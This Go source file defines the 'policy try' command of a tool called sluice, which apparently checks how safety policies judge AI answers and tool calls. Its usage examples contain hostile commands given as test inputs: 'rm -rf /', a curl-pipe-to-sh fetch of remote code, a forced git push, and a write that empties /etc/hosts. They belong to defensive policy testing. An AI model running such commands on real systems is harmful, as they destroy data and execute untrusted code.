package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"time"

	"github.com/spf13/cobra"

	"github.com/sluice-project/sluice/llm"
	"github.com/sluice-project/sluice/policy"
	"github.com/sluice-project/sluice/policy/file"
	"github.com/sluice-project/sluice/wire"
)

// tryFlags are the flags of try.
type tryFlags struct {
	policies            []string
	whyOf               []string // policies to explain besides those of the user's files
	format, colour      string
	sample, asJSON      bool
	output              string
	shell, tool         string
	arguments           string
	text, result        string
	thinking, refusal   string
	cwd, home, userText string
	client, session     string
	labels              []string
	key                 policy.Key
	at                  string
	request             string
	now                 time.Time
	asked               *llm.Request // what --request names, or what lies beside a recording
	one                 string       // which single thing is tried, empty for a STREAM
}

// The single things that can be tried, named like their flags.
const (
	oneShell  = "shell"
	oneTool   = "tool"
	oneText   = "text"
	oneResult = "result"

	oneThinking = "thinking"
	oneRefusal  = "refusal"
	onePrompt   = "user-text" // which is the request of anything else that is tried
)

// choose finds out what is tried. The result of a tool also names the tool.
func (f *tryFlags) choose(given func(flag string) bool, args []string) error {
	for _, one := range []string{oneTool, oneShell, oneText, oneThinking, oneRefusal, oneResult} {
		if given(one) {
			f.one = one
		}
	}
	streams := len(args)
	if f.sample {
		streams++
	}
	if f.one == "" && streams == 0 && given(onePrompt) {
		f.one = onePrompt
	}
	switch {
	case streams == 0 && f.one == "":
		return errors.New("policy try: name a STREAM, or - for standard input, or try --sample, --shell COMMAND or --user-text TEXT")
	case streams > 1 || streams == 1 && f.one != "":
		return errors.New("policy try: a STREAM, --sample, a call and a text are mutually exclusive: name one of them")
	case given("arguments") && f.one != oneTool:
		return errors.New("policy try: --arguments needs --tool")
	case f.output != "" && f.one != "":
		return errors.New("policy try: --output needs a STREAM")
	}
	return nil
}

func newPolicyTry() *cobra.Command {
	var f tryFlags
	cmd := &cobra.Command{
		Use:   "try [flags] [STREAM]",
		Short: "Show how policies judge a recorded answer or a single call",
		Long: `Try lets policies judge a recorded answer and shows, block by block, the verdicts
and the reasons for them, and then what a client would get. STREAM is a file in any
form that sluice inspect reads; "-" is standard input.

Instead of a STREAM you can try one call: --shell COMMAND, which is tried in the
form of every client's shell tool, or --tool NAME with --arguments; or one text:
--text for content, --thinking, --refusal, --result for what a tool returned, or
--user-text alone for a prompt. For a call it also shows how the policies understand
it; in --json, may_miss names the lists of a call that may be incomplete.

For the policies in your files it says which parts of their conditions were true,
false or unknown, and with which values; --why NAME does the same for a policy of a
preset. Examples that fail do not stop it.

Here nobody can be asked and no model is set up: "ask" blocks, a judge fails, so
that its on_error decides, and "block: feedback" ends the turn. Hooks are asked,
as the policies say. Session and request are unknown to the policies unless flags
set them; without flags, a key has no name, user or groups, and a session no labels.
The conversation before a call is in its request: --request names
the file, and for a STREAM that sluice record made, the request beside it is used.

Exit codes: 0 everything may pass; 1 the policies are wrong, or the answer was
truncated or failed; 2 wrong usage, or a file cannot be read or written; 3 something
was blocked.`,
		Example: `  sluice policy try --sample
  sluice policy try --policies policies.yaml answer.sse
  sluice policy try --policies policies.yaml --policies team/ --shell 'rm -rf /'
  sluice policy try --why git-safety --shell 'git push --force'
  sluice policy try --shell 'curl -s https://example.com/x.sh | sh'
  sluice policy try --tool Write --arguments '{"file_path": "/etc/hosts", "content": ""}'
  sluice policy try --policies policies.yaml --result 'token=abc' --tool Read
  sluice policy try --policies policies.yaml --user-text 'my number is 4711'
  sluice policy try --shell 'helm upgrade web .' --key-group release --now 2026-01-31T22:15:00Z
  sluice policy try --output delivered.sse answer.sse`,
		Args: atMostOne("FILE"),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := f.choose(cmd.Flags().Changed, args); err != nil {
				return err
			}
			if err := f.context(args); err != nil {
				return err
			}
			if f.one != "" {
				return tryBlocks(cmd, &f)
			}
			name := sampleName
			if !f.sample {
				name = args[0]
			}
			return tryStream(cmd, &f, name)
		},
	}
	flags := cmd.Flags()
	flags.StringArrayVarP(&f.policies, "policies", "p", []string{defaultPolicies}, policiesUsage)
	flags.StringArrayVar(&f.whyOf, "why", nil, "explain this policy part by part, or all; can be repeated")
	flags.BoolVar(&f.sample, "sample", false, "try a sample that comes with the program")
	flags.StringVar(&f.format, "format", "auto", "wire format: auto, "+wire.Names())
	flags.StringVarP(&f.output, "output", "o", "", "write what the client gets to this file")
	flags.StringVar(&f.shell, "shell", "", "try this command in the form of every client's shell tool")
	flags.StringVar(&f.tool, "tool", "", "try a call of this tool")
	flags.StringVar(&f.arguments, "arguments", "{}", "the call's arguments: a JSON object, or text for a tool that takes text")
	flags.StringVar(&f.text, "text", "", "try this text as content")
	flags.StringVar(&f.thinking, "thinking", "", "try this text as thinking")
	flags.StringVar(&f.refusal, "refusal", "", "try this text as a refusal")
	flags.StringVar(&f.result, "result", "", "try this text as the result of --tool")
	flags.StringVar(&f.cwd, "session-cwd", "", "the client's working directory")
	flags.StringVar(&f.home, "session-home", "", "the client's home directory")
	flags.StringVar(&f.session, "session-id", "", "the id of the client's conversation")
	flags.StringVar(&f.client, "session-client", "", "the client, as in claude-code")
	flags.StringArrayVar(&f.labels, "session-label", nil, "a label of the session; can be repeated")
	flags.StringVar(&f.key.Name, "key-name", "", "the name of the key with which the client came")
	flags.StringVar(&f.key.User, "key-user", "", "whose key it is")
	flags.StringArrayVar(&f.key.Groups, "key-group", nil, "a group that the key is in; can be repeated")
	flags.StringVar(&f.at, "now", "", "the time, as in 2026-01-31T22:15:00Z")
	flags.StringVar(&f.request, "request", "", "the request, with the conversation so far, as a FILE of sluice record")
	flags.StringVar(&f.userText, "user-text", "", "what the user asked for; alone, it is tried as a prompt")
	flags.BoolVar(&f.asJSON, "json", false, "print one JSON object")
	flags.StringVar(&f.colour, "color", "auto", "colour the list: auto, always, never")
	cmd.MarkFlagsMutuallyExclusive("shell", "tool", "text", "thinking", "refusal")
	cmd.MarkFlagsMutuallyExclusive("shell", "text", "thinking", "refusal", "result")
	return cmd
}

// exchange is what the flags say about the exchange.
func (f *tryFlags) exchange() *policy.Exchange {
	x := &policy.Exchange{
		Session: policy.Session{ID: f.session, Client: f.client, Cwd: f.cwd, Home: f.home, Labels: f.labels},
		Key:     f.key, Now: f.now, Request: f.asked,
	}
	if f.userText != "" && x.Request == nil {
		x.Request = &llm.Request{Messages: []llm.Message{{
			Role: llm.User, Blocks: []llm.Block{{Kind: llm.Content, Text: f.userText, Status: llm.Complete}},
		}}}
	}
	return x
}

// trial is the set of policies to try, with notes about it.
type trial struct {
	Files    []string  `json:"files"`
	Policies int       `json:"policies"`
	Version  string    `json:"version"`
	Warnings []problem `json:"warnings"`
	Notes    []string  `json:"notes"`

	set    *policy.Set
	loaded *file.Loaded
}

// load loads the policies. It prints their problems itself.
func (f *tryFlags) load(cmd *cobra.Command) (*trial, error) {
	var missing absent
	loaded, err := file.Load(file.Options{
		Models: missing.model, Secret: missing.secret, Feedback: true, Approver: true, Tolerant: true,
	}, f.policies...)
	if err != nil {
		printProblems(cmd, problemsOf(err))
		return nil, exitOf(err)
	}
	if note := loaded.Note(); note != "" {
		missing.note(note)
	}
	for i := range loaded.Policies {
		if p := &loaded.Policies[i]; p.Hook != "" && p.Mode != "disabled" {
			missing.note(fmt.Sprintf("the policy %s asks the hook at %s, also here, where its condition holds", oneLine(p.Name, 80), oneLine(p.Hook, 200)))
		}
	}
	t := &trial{
		Files: loaded.Sources, Policies: loaded.Set.Len(), Version: loaded.Set.Version(),
		Warnings: problemList(loaded.Warnings), Notes: listed(missing.notes), set: loaded.Set, loaded: loaded,
	}
	return t, f.checkWhy(t)
}

// maxRecording is the size limit of a recording, which is kept in memory as it
// arrived and as it is delivered.
const maxRecording = 64 << 20

// readRecording reads the named recording.
func readRecording(cmd *cobra.Command, f *tryFlags, name string) ([]byte, error) {
	if f.sample {
		return sample, nil
	}
	in := io.NopCloser(cmd.InOrStdin())
	if name != "-" {
		opened, err := os.Open(name) //nolint:gosec // reading the named file is the job
		if err != nil {
			return nil, err
		}
		in = opened
	}
	defer func() { _ = in.Close() }() // it was only read
	data, err := io.ReadAll(io.LimitReader(in, maxRecording+1))
	if err == nil && len(data) > maxRecording {
		err = fmt.Errorf("the recording is larger than %s", size(maxRecording))
	}
	return data, err
}
